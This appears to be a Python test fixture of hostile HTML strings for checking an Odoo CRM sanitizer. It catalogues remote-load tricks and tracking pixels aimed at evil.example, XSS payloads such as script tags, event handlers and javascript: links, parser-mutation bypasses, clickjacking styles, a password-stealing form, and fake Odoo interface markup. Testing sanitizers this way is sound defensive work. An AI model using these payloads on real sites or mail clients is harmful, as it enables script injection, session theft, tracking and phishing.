"""Texts that try to run, to load, or to look like Odoo; each named by its trap."""

# something that would be loaded without a click
IMAGES = {
    "image": '<img src="http://evil.example/i">',
    "image, capital letters": '<IMG SRC="HTTP://evil.example/i">',
    "image, no quotes": "<img src=http://evil.example/i>",
    "image, protocol-relative": '<img src="//evil.example/i">',
    "image, backslashes": '<img src="\\\\evil.example\\i">',
    "image, blank before": '<img src=" http://evil.example/i">',
    "image, line break within": '<img src="ht\ntp://evil.example/i">',
    "image, tab within": '<img src="ht&#9;tp://evil.example/i">',
    "image, entities": '<img src="&#104;ttp://evil.example/i">',
    "image, slash for blank": '<img/src="http://evil.example/i"/>',
    "image, other protocol": '<img src="ftp://evil.example/i">',
    "image, file": '<img src="file://evil.example/i">',
    "image, this server": '<img src="/web/session/logout">',
    "image, dots": '<img src="/web/image/../session/logout">',
    "image, within a link": '<a href="http://a.example"><img src="//evil.example"></a>',
    "image, alternative sizes": '<img src="cid:x" srcset="http://evil.example/i 2x">',
    "image, only sizes": '<img srcset="http://evil.example/i 2x">',
    "image, lazy": '<img src="data:image/gif;base64,R0" data-src="//evil.example/i">',
    "image, small first": '<img lowsrc="http://evil.example/i" src="cid:x">',
    "image, moving": '<img dynsrc="http://evil.example/i" src="cid:x">',
    "image, description": '<img longdesc="http://evil.example/i" src="cid:x">',
    "image, old name": '<image src="http://evil.example/i">',
    "image, in a comment of Outlook": (
        "<!--[if mso]><img src=//evil.example><![endif]-->"
    ),
    "image, comment shown to others": (
        "<!--[if !mso]>--><img src=//evil.example><!---->"
    ),
    "image, hidden in a tag of Office": "<<o:x>img src=http://evil.example/i>",
    "image, hidden in two": "<<o:<o:x>x>img src=http://evil.example/i>",
    "image, behind an attribute of Office": (
        '<a title="<o:">x</a><b title=" ><img src=http://evil.example/i> ">y</b>'
    ),
    "image, behind an encoding": (
        '<a title=\'<x encoding="a">\'>x</a><b title="><img src=//evil.example>">y</b>'
    ),
    "picture": '<picture><source srcset="//evil.example"><img src="cid:x"></picture>',
    "button": '<input type="image" src="http://evil.example/i">',
    "background": '<table background="http://evil.example/i"><tr><td>x</table>',
    "background of a cell": "<table><tr><td background=//evil.example>x</table>",
    "background of the body": '<body background="http://evil.example/i">x</body>',
    "style": '<p style="background:url(http://evil.example/i)">x</p>',
    "style, image": "<p style=\"background-image: URL( '//evil.example/i' )\">x</p>",
    "style, escaped": '<p style="background-image:u\\72l(http://evil.example/i)">x</p>',
    "style, set": "<p style=\"background-image:image-set('//evil.example' 1x)\">x</p>",
    "style, border": '<p style="border:1px;border-image:url(//evil.example)">x</p>',
    "style, list": '<li style="list-style:url(http://evil.example/i)">x</li>',
    "style, quotes": (
        "<p style='color:\";\";background-image:url(//evil.example)'>x</p>"
    ),
    "style, variable": '<p style="--x:url(//evil.example);color:var(--x)">x</p>',
    "style, block": "<style>p {background:url(http://evil.example/i)}</style>",
    "style, import": "<style>@import 'http://evil.example/c';</style>",
    "style, link": '<link rel="stylesheet" href="http://evil.example/c">',
    "prefetch": '<link rel="prefetch" href="http://evil.example/c">',
    "film": '<video src="http://evil.example/v" autoplay></video>',
    "film, first image": '<video poster="http://evil.example/i"></video>',
    "film, sources": '<video autoplay><source src="http://evil.example/v"></video>',
    "film, subtitles": '<video><track src="http://evil.example/t"></video>',
    "sound": '<audio src="http://evil.example/a" autoplay></audio>',
    "drawing": '<svg><image href="http://evil.example/i"/></svg>',
    "drawing, old": '<svg><image xlink:href="http://evil.example/i"/></svg>',
    "drawing, used": '<svg><use href="http://evil.example/i#x"/></svg>',
    "drawing, in the address": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "frame": '<iframe src="http://evil.example/"></iframe>',
    "frames": '<frameset><frame src="http://evil.example/"></frameset>',
    "object": '<object data="http://evil.example/"></object>',
    "embedded": '<embed src="http://evil.example/">',
    "quotation": '<blockquote cite="http://evil.example/">x</blockquote>',
    "base address": '<base href="http://evil.example/"><img src="i.png">',
}

# images nobody is meant to see
PIXELS = {
    "pixel": '<img src="http://evil.example/i" width="1" height="1">',
    "pixel, units": '<img src="http://evil.example/i" width="1px" height="1px">',
    "pixel, nothing": '<img src="http://evil.example/i" width="0" height="0">',
    "pixel, style": '<img src="//evil.example" style="width:1px;height:1px">',
    "pixel, hidden": '<img src="//evil.example" style="display:none">',
    "pixel, hidden with force": (
        '<img src="//evil.example" style="DISPLAY:none!important">'
    ),
    "pixel, invisible": '<img src="//evil.example" style="visibility: hidden">',
    "pixel, transparent": '<img src="//evil.example" style="opacity:0">',
}

# something that runs, leads astray, or looks like the web client
MARKUP = {
    "script": "<script>alert(1)</script>",
    "script, elsewhere": '<script src="http://evil.example/x.js"></script>',
    "script, nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, unclosed": "<script>alert(1)",
    "script, odd end": "<script>alert(1)</script foo>",
    "script, slash": "<script/x>alert(1)</script>",
    "event": '<p onclick="alert(1)">x</p>',
    "event, capital letters": '<p ONCLICK="alert(1)">x</p>',
    "event, no blank": '<img src="cid:x"onerror="alert(1)">',
    "event, slash": "<svg/onload=alert(1)>",
    "event, on opening": '<details open ontoggle="alert(1)">x</details>',
    "event, focus": '<b tabindex=1 autofocus onfocus="alert(1)">x</b>',
    "link, script": '<a href="javascript:alert(1)">x</a>',
    "link, script in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "link, script with tab": '<a href="java&#9;script:alert(1)">x</a>',
    "link, script with entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "link, script after control": '<a href="&#1;javascript:alert(1)">x</a>',
    "link, basic": '<a href="vbscript:alert(1)">x</a>',
    "link, page": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link, page in base64": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "link, file": '<a href="file:///evil.example/share">x</a>',
    "link, this server": '<a href="/web/session/logout">x</a>',
    "link, protocol-relative": '<a href="//evil.example/">x</a>',
    "map": '<map name=m><area href="javascript:alert(1)"></map><img usemap="#m">',
    "drawing": "<svg><script>alert(1)</script></svg>",
    "drawing, link": (
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'
    ),
    "drawing, animated": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "drawing, foreign": "<svg><foreignObject><iframe src=//evil.example></svg>",
    "formula": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "formula, action": '<math><maction actiontype="statusline#alert(1)">x</maction>',
    "redirection": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="javascript:alert(1)//"><a href="x">x</a>',
    "form": '<form action="http://evil.example/"><input name="password"></form>',
    "form, button": '<button formaction="javascript:alert(1)">x</button>',
    "form, area": "<textarea><img src=x onerror=alert(1)></textarea>",
    "frame, page within": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style, expression": '<p style="width:expression(alert(1))">x</p>',
    "style, script": "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "style, binding": '<p style="-moz-binding:url(//evil.example/x.xml)">x</p>',
    "style, covers the page": '<div style="position:fixed;top:0;left:0">x</div>',
    "style, sticks": '<div style="position:sticky;z-index:9999">x</div>',
    "style, moved": '<div style="transform:translate(-500px)">x</div>',
    "style, pulled up": '<a style="display:block;margin-top:-900px">x</a>',
    "style, pulled by sum": '<a style="margin:calc(0px - 900px) 0 0">x</a>',
    "comment of Internet Explorer": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment, ended oddly": "<!-- --!><script>alert(1)</script>",
    "comment, empty": "<!--><script>alert(1)</script>-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>x",
    "processing instruction, cut short": "<?x ><img src=x onerror=alert(1)>?>",
    "comment, cut short": "<!--x><img src=x onerror=alert(1)>-->",
    "declaration": '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
    "tags, unclosed": "<div><b><i><a href='javascript:alert(1)'>x",
    "tags, crossed": "<b><p onclick=alert(1)></b>x</p>",
    "tag, unfinished": "<p>x</p><img src=x onerror=alert(1) ",
    "tag, quotes open": '<img src="x onerror=alert(1)>x',
    "tag, double angle": "<<script>alert(1)//<</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities, twice": "&amp;lt;script&amp;gt;alert(1)",
    "mutation, noscript": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    ),
    "mutation, style in drawing": (
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'
    ),
    "mutation, formula table": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mutation, form in form": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=alert(1)>"
    ),
    "mutation, title": '<title><p title="</title><img src=x onerror=alert(1)>">',
    "mutation, listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "mutation, xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "mutation, template": "<template><script>alert(1)</script></template>",
    "mutation, select": "<select><template><style><!--</style><a rel='--></select>"
    "<img src onerror=alert(1)>'>",
    "Odoo, record": '<a href="#" data-oe-model="res.users" data-oe-id="2">Admin</a>',
    "Odoo, mention": '<a class="o_mail_redirect" data-oe-id="3" href="#">@Boss</a>',
    "Odoo, message": '<a class="o_message_redirect" data-oe-id="3" href="#">x</a>',
    "Odoo, channel": '<a class="o_channel_redirect" data-oe-model="discuss.channel"'
    ' data-oe-id="1" href="#">#general</a>',
    "Odoo, notification": '<div class="o_mail_notification">Stage: New → Won</div>',
    "Odoo, notification by summary": '<table summary="o_mail_notification">x</table>',
    "Odoo, component": '<div data-embedded="file" data-embedded-props="{}">x</div>',
    "Odoo, editor": '<p data-oe-protected="true" data-last-history-steps="1">x</p>',
    "Odoo, template": '<t t-out="1+1"><p t-att-onclick="alert(1)" t-if="1">x</p></t>',
    "Odoo, template call": '<t t-call="web.layout">x</t>',
    "Odoo, button": '<a class="btn btn-primary oe_highlight" href="#">Pay now</a>',
    "Odoo, bar": '<div class="o_main_navbar fixed-top w-100 h-100">x</div>',
    "Odoo, tabs": '<a data-bs-toggle="modal" data-bs-target="body" href="#">x</a>',
    "Odoo, our own mark": (
        '<a class="o_crm_remote_image" data-original-src="/web/session/logout">x</a>'
    ),
    "Odoo, edited": '<span class="o-mail-Message-edited">x</span>',
    "names that shadow": '<a id="odoo" name="__session_info__" href="#">x</a>',
}
